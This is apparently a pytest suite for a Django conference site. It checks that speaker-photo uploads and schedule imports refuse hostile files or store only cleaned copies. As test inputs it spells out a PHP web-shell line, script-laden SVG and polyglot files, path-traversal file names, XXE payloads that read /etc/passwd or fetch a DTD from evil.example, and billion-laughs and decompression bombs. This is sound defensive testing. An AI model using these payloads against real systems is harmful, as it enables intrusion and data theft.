"""Hostile files: images through the admin and the model field, schedules through the import
command and the admin import. Each is refused with a clear message (or, for an image that
is sound underneath, stored only as a clean re-encoded copy under a generated name), nothing
else is stored, and nothing is written outside the media folder.
"""

import io
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse

from conference.models import Day, Event, Room
from sessions.models import Session
from speakers.models import Speaker
from tests.factories import build_programme, image_upload

pytestmark = pytest.mark.django_db

SPEAKER_ADD = reverse("admin:speakers_speaker_add")
IMPORT_URL = "/admin/programme/session/import/"


def _jpeg() -> bytes:
    return image_upload().read()


def _png() -> bytes:
    return image_upload("p.png", image_format="PNG").read()


def _png_bomb(width=100_000, height=100_000) -> bytes:
    from tests.conference.test_images import _png_header_only

    return _png_header_only(width, height)


GIF_JS_POLYGLOT = b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00;*/=alert(document.domain);//" + b"\x00" * 8
REFUSED_IMAGES = {
    "truncated jpeg": ("photo.jpg", _jpeg()[:400]),
    "truncated png": ("photo.png", _png()[:60]),
    "png bomb": ("bomb.png", _png_bomb()),
    "gif/js polyglot": ("photo.gif", GIF_JS_POLYGLOT),
    "svg with script": ("photo.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)"
                        b"</script></svg>"),
    "html named .jpg": ("photo.jpg", b"<html><script>alert(1)</script></html>"),
    "php named .jpg": ("photo.jpg", b"<?php system($_GET['c']); ?>"),
    "empty file": ("photo.jpg", b""),
    "binary garbage": ("photo.png", bytes(range(256)) * 40),
}  # fmt: skip
# Sound images with something hostile around them: stored re-encoded, under a generated name.
CLEANED_IMAGES = {
    "jpeg with html appended": ("photo.jpg", _jpeg() + b"<script>alert(1)</script><?php ?>"),
    "png with zip appended": ("photo.png", _png() + b"PK\x03\x04" + b"\x00" * 100),
    "png named .jpg": ("photo.jpg", _png()),
    "jpeg named .php": ("shell.php", _jpeg()),
    "path traversal": ("../../evil.jpg", _jpeg()),
    "absolute path": ("/tmp/evil.jpg", _jpeg()),
    "windows traversal": ("..\\..\\evil.jpg", _jpeg()),
    "nul in name": ("evil.jpg\x00.php", _jpeg()),
}
HOSTILE_MARKERS = (b"<script", b"<?php", b"PK\x03\x04")


@pytest.fixture
def media(settings, tmp_path):
    """MEDIA_ROOT inside an empty folder, so any file written beside it shows."""
    settings.MEDIA_ROOT = str(tmp_path / "media")
    return tmp_path


def _files(root: Path) -> set[Path]:
    return {path for path in root.rglob("*") if path.is_file()}


def _no_evil_anywhere() -> None:
    import tempfile

    for folder in (Path(tempfile.gettempdir()), Path(__file__).resolve().parents[2]):
        assert not list(folder.glob("evil*")), folder


def _add_speaker(admin_submit, name, content):
    upload = SimpleUploadedFile(name, content)
    return admin_submit(
        SPEAKER_ADD,
        {"name": "Ada", "slug": "ada", "photo": upload, "photo_focal_x": 0.5, "photo_focal_y": 0.5},
    )


@pytest.mark.parametrize("name,content", REFUSED_IMAGES.values(), ids=list(REFUSED_IMAGES))
def test_hostile_image_admin_upload_refused_nothing_stored(admin_submit, media, name, content):
    before = _files(media)

    response = _add_speaker(admin_submit, name, content)

    assert response.status_code == 200
    errors = response.context["adminform"].form.errors
    assert "photo" in errors, errors
    message = " ".join(errors["photo"])
    assert any(word in message for word in ("image", "Image", "SVG", "file")), message
    assert not Speaker.objects.exists()
    assert _files(media) == before


@pytest.mark.parametrize("name,content", CLEANED_IMAGES.values(), ids=list(CLEANED_IMAGES))
def test_hostile_image_admin_upload_stored_clean_inside_media(admin_submit, media, name, content):
    before = _files(media)

    response = _add_speaker(admin_submit, name, content)

    assert response.status_code == 302, response.context["adminform"].form.errors
    speaker = Speaker.objects.get()
    stored = Path(speaker.photo.path).resolve()
    assert stored.is_relative_to(Path(media / "media").resolve())
    assert speaker.photo.name.startswith("speakers/") and ".." not in speaker.photo.name
    assert len(Path(speaker.photo.name).name) == 36  # a uuid hex and the format's extension
    assert Path(speaker.photo.name).suffix in (".jpg", ".png")
    data = stored.read_bytes()
    assert not [marker for marker in HOSTILE_MARKERS if marker in data]
    assert _files(media) - before == {stored}
    _no_evil_anywhere()


def test_hostile_image_admin_upload_very_long_name_refused(admin_submit, media):
    response = _add_speaker(admin_submit, "e" * 1000 + ".jpg", _jpeg())

    assert "at most 100 characters" in " ".join(response.context["adminform"].form.errors["photo"])
    assert not Speaker.objects.exists()
    assert _files(media) == set()


def test_hostile_image_model_field_very_long_name_stored_under_generated_name(media):
    photo = SimpleUploadedFile("e" * 1000 + ".jpg", _jpeg())
    speaker = Speaker(name="Ada", slug="ada", photo=photo)
    speaker.save()

    assert len(Path(speaker.photo.name).name) == 36
    assert _files(media) == {Path(speaker.photo.path).resolve()}


@pytest.mark.parametrize("name,content", REFUSED_IMAGES.values(), ids=list(REFUSED_IMAGES))
def test_hostile_image_model_field_refused_by_full_clean(media, name, content):
    from django.core.exceptions import ValidationError

    speaker = Speaker(name="Ada", slug="ada", photo=SimpleUploadedFile(name, content))

    with pytest.raises(ValidationError) as raised:
        speaker.full_clean()

    assert "photo" in raised.value.message_dict
    assert _files(media) == set()


@pytest.mark.parametrize("name,content", CLEANED_IMAGES.values(), ids=list(CLEANED_IMAGES))
def test_hostile_image_model_field_saved_under_generated_name(media, name, content):
    speaker = Speaker(name="Ada", slug="ada", photo=SimpleUploadedFile(name, content))
    speaker.full_clean()
    speaker.save()

    assert _files(media) == {Path(speaker.photo.path).resolve()}
    assert ".." not in speaker.photo.name and "evil" not in speaker.photo.name
    _no_evil_anywhere()


# ----- schedule files -----


def _valid_schedule_xml(client, event) -> bytes:
    build_programme(event)
    data = client.get(reverse("programme:schedule-xml", kwargs={"event": event.slug})).content
    Event.objects.all().delete()
    Speaker.objects.all().delete()
    return data


def _deep_xml(depth=100_000) -> bytes:
    nested = b"<a>" * depth + b"</a>" * depth
    return b"<schedule><conference>" + nested + b"</conference></schedule>"


def _deep_json(depth=100_000) -> bytes:
    return b'{"schedule": {"conference": ' + b"[" * depth + b"]" * depth + b"}}"


BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{n} "{("&lol" + str(n - 1 if n > 1 else "") + ";") * 10}">'.encode()
        for n in range(1, 10)
    )
    + b"]><schedule><conference><title>&lol9;</title></conference></schedule>"
)
XXE = (
    b'<?xml version="1.0"?><!DOCTYPE schedule [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b"<schedule><conference><title>&xxe;</title></conference></schedule>"
)
XXE_PARAMETER = (
    b'<?xml version="1.0"?><!DOCTYPE schedule [<!ENTITY % remote SYSTEM '
    b'"http://evil.example/x.dtd">%remote;]><schedule/>'
)


def _hostile_schedules(valid: bytes) -> dict[str, tuple[bytes, str]]:
    """Name: (content, a word of the expected message)."""
    text = valid.decode()
    return {
        "xxe": (XXE, "DTD"),
        "xxe parameter entity": (XXE_PARAMETER, "DTD"),
        "billion laughs": (BILLION_LAUGHS, "DTD"),
        "deep xml": (_deep_xml(), "missing"),
        "deep json": (_deep_json(), "nested too deeply"),
        "utf-16 without bom": (text.encode("utf-16-le"), "not well formed"),
        "latin-1 declared utf-8": (
            text.replace("</title>", " Café</title>", 1).encode("latin-1", "replace"),
            "not well formed",
        ),
        "binary garbage": (bytes(range(256)) * 64, "neither"),
        "json with garbage": (b'{"schedule": \xff\xfe\x00', "not valid JSON"),
    }


def _counts():
    return [m.objects.count() for m in (Event, Day, Room, Session, Speaker)]


@pytest.fixture
def schedules(client, event):
    return _hostile_schedules(_valid_schedule_xml(client, event))


def test_hostile_schedules_refused_by_the_command(schedules, media):
    counts, before = _counts(), _files(media)
    for name, (content, expected) in schedules.items():
        path = media / f"{name}.xml"
        path.write_bytes(content)

        with pytest.raises(CommandError) as raised:
            call_command("import_schedule", str(path), stdout=io.StringIO())

        assert expected in str(raised.value) and "Nothing was imported" in str(raised.value), name
        assert _counts() == counts, name
        path.unlink()
    assert _files(media) == before


def test_hostile_schedules_refused_by_the_admin_import(editor_client, schedules, media):
    counts = _counts()
    for name, (content, expected) in schedules.items():
        upload = SimpleUploadedFile("schedule.xml", content)

        response = editor_client.post(IMPORT_URL, {"file": upload})

        assert response.status_code == 200, name
        errors = " ".join(response.context["form"].errors.get("file", []))
        assert expected in errors and "Nothing was imported" in errors, (name, errors)
        assert _counts() == counts, name
    assert not Path(media / "media").exists() or _files(media / "media") == set()


def test_fifty_megabyte_schedule_refused_before_reading(media, db, monkeypatch):
    path = media / "huge.json"
    with path.open("wb") as file:
        file.write(b'{"schedule": {"conference": {"title": "')
        file.seek(50 * 2**20)
        file.write(b'"}}}')
    monkeypatch.setattr(Path, "read_bytes", lambda self: pytest.fail("the file was read"))

    with pytest.raises(CommandError, match="larger than 10 MB"):
        call_command("import_schedule", str(path), stdout=io.StringIO())

    assert _counts() == [0, 0, 0, 0, 0]


def test_fifty_megabyte_schedule_refused_by_the_admin(editor_client, media):
    upload = SimpleUploadedFile("huge.json", b" " * (50 * 2**20))

    response = editor_client.post(IMPORT_URL, {"file": upload})

    assert "larger than 10 MB" in " ".join(response.context["form"].errors["file"])
    assert _counts() == [0, 0, 0, 0, 0]


def test_oversized_schedule_refused_by_the_reader():
    from sessions.schedule.reading import MAX_SCHEDULE_BYTES, ScheduleError, read_schedule

    with pytest.raises(ScheduleError, match="larger than 10 MB"):
        read_schedule(b"{" + b" " * MAX_SCHEDULE_BYTES + b"}")
